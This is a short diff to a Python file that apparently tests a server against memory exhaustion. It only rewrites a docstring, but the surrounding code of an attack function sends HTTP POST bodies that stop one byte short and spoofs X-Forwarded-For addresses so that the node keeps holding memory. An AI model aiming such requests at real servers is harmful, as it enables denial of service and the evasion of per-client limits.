@@ -311,7 +311,7 @@ def attack(port: int, name: str) -> None:
                 line.close()
 
     def hold_memory(number: int) -> None:
-        """Send a batch, or a body without its last byte, and wait for the reply."""
+        """Make the node hold memory: send a batch, or in the attack of bodies a body without its last byte, and wait for the reply."""
         body = b" " * (BODY_SIZE - 1) if name == BODIES else next(same)
         size = BODY_SIZE if name == BODIES else len(body)
         head = f"POST / HTTP/1.1\r\nHost: x\r\nX-Forwarded-For: 10.0.1.{number}\r\nConnection: close\r\nContent-Length: {size}\r\n\r\n"
